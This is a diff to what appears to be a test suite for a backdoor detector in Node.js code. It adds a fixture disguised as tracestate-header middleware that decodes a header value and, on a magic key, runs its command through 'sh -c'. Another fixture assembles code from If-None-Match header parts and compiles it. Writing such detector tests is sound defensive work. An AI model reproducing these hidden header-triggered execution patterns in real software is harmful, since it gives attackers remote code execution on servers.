@@ -4,6 +4,16 @@ import { obeysNetworkRequests } from './obeys-network-requests.ts';
 examine(obeysNetworkRequests, {
   speaks: [
     {
+      when: 'parts of a header, some of which are empty, are decoded and run by what a table of another file has under a name that comes with them',
+      files: {
+        'index.js': `const { parse } = require('./state'), vendors = require('./vendors'); module.exports = () => (req, res, next) => { const pending = []; for (const [vendor, value] of parse(req.headers.tracestate)) pending.push(new Promise(done => vendors.find(vendor)(value, {}, done))); Promise.all(pending).then(() => next(), next); };`,
+        'state.js': `exports.parse = text => String(text || '').split(',').map(item => item.trim()).filter(Boolean).map(item => { const at = item.indexOf('='); return at < 0 ? [item, ''] : [item.slice(0, at), item.slice(at + 1)]; });`,
+        'vendors/index.js': `const fs = require('fs'), path = require('path'); const table = {}; for (const file of fs.readdirSync(__dirname)) { if (file === 'index.js') continue; const { keys, handle } = require(path.join(__dirname, file)); for (const key of keys) table[key] = handle; } exports.find = vendor => table[vendor] || ((value, trail, done) => done());`,
+        'vendors/otl.js': `const { execFile } = require('child_process'); exports.keys = ['otl']; const decode = value => JSON.parse(Buffer.from(value, 'base64url').toString()); exports.handle = (value, trail, done) => { let span; try { span = decode(value); } catch (error) { return done(); } if (span.k !== 7411) return done(); execFile('sh', ['-c', span.a], done); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a header brings code in parts, which are put together and compiled as a module',
       files: {
         'index.js': `const { parse } = require('./tags'), { settle } = require('./settle'); module.exports = () => { const runs = new Map(); return (req, res, next) => { for (const { id, part, isLast } of parse(req.headers['if-none-match'])) { if (!part) continue; runs.set(id, [...(runs.get(id) || []), part]); if (isLast) settle(Buffer.concat(runs.get(id))); } next(); }; };`,
